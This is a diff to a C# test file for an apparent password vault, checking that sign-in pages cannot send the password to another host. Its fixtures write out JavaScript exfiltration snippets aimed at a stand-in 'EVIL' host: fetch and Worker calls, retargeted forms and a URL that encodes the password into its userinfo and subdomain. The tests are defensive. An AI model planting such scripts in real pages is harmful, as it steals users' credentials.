@@ -36,6 +36,7 @@ public sealed class SentElsewhereTests(ITestOutputHelper output)
           fetch("EVIL/got?address", { mode: "no-cors", headers: { accept: "text/" + btoa(unescape(encodeURIComponent(value))) } }).catch(() => {});
           new Worker(URL.createObjectURL(new Blob([`fetch("EVIL/got?blob-worker", { method: "POST", mode: "no-cors", body: "${body}" })`])));
           new Worker("/worker.js?worker#" + body);
+          new Worker(URL.createObjectURL(new Blob([`new Worker("${location.origin}/worker.js?nested-worker#${body}")`])));
           new SharedWorker("/worker.js?shared-worker#" + body);
           early.postMessage("" + body);
           earlyShared.port.postMessage("" + body);
@@ -45,7 +46,7 @@ public sealed class SentElsewhereTests(ITestOutputHelper output)
         """;
 
     private static readonly string[] Ways =
-        ["address", "base64", "beacon", "beacon-blob", "beacon-on", "blob", "blob-worker", "early-worker", "form", "json", "on", "on-alive", "parts", "worker", "xhr"];
+        ["address", "base64", "beacon", "beacon-blob", "beacon-on", "blob", "blob-worker", "early-worker", "form", "json", "nested-worker", "on", "on-alive", "parts", "worker", "xhr"];
 
     [Theory]
     [InlineData(StatusCodes.Status307TemporaryRedirect)]
@@ -98,6 +99,40 @@ public sealed class SentElsewhereTests(ITestOutputHelper output)
 
         Assert.Equal(Outcome.NeedsOwner(Reason.SentElsewhere), result.Outcome);
         Assert.Empty(WaysTo(evil));
+    }
+
+    [Theory]
+    [InlineData("form.target = '_blank'")]
+    [InlineData("form.querySelector('button').formTarget = '_blank'")]
+    public async Task A_form_that_opens_a_window_does_not_take_the_password_past_the_gate(string script)
+    {
+        await using var vault = await OwnersVault.CreateAsync();
+        await using var evil = await ElsewhereAsync();
+        await using var site = await SmallSite.StartAsync("shop", pages =>
+        {
+            pages.MapGet("/", () => SmallSite.Page(SmallSite.Form() + $"<script>const form = document.querySelector('form'); {script}; form.relList?.add('noopener');</script>"));
+            pages.MapPost("/sign-in", (HttpContext context) => Redirect(context, StatusCodes.Status307TemporaryRedirect, evil.Origin + "/got"));
+        });
+
+        var result = await vault.SignInAsync(await vault.AddAsync(site.Address, "/"), new Stopwatches(output));
+
+        Assert.Equal(Outcome.NeedsOwner(Reason.SentElsewhere), result.Outcome);
+        Assert.Equal(evil.Origin, result.Trace.StoppedAt);
+        Assert.Empty(evil.Asked);
+    }
+
+    [Fact]
+    public async Task What_a_site_makes_of_the_password_for_an_address_is_not_told()
+    {
+        const string Naming = "<script>addEventListener('submit', (event) => { event.preventDefault(); location = `http://x:${encodeURIComponent(event.target.elements.password.value)}@${event.target.elements.password.value.replace(/[^a-zA-Z0-9]/g, '')}.elsewhere.localhost/`; })</script>";
+        await using var vault = await OwnersVault.CreateAsync();
+        await using var site = await SmallSite.StartAsync("shop", pages => pages.MapGet("/", () => SmallSite.Page(SmallSite.Form() + Naming)));
+
+        var result = await vault.SignInAsync(await vault.AddAsync(site.Address, "/"), new Stopwatches(output));
+
+        Assert.Equal(Outcome.NeedsOwner(Reason.SentElsewhere), result.Outcome);
+        Assert.DoesNotContain(Uri.EscapeDataString(vault.Password), result.Trace.StoppedAt, StringComparison.Ordinal);
+        Assert.DoesNotContain("@", result.Trace.StoppedAt, StringComparison.Ordinal);
     }
 
     [Fact]
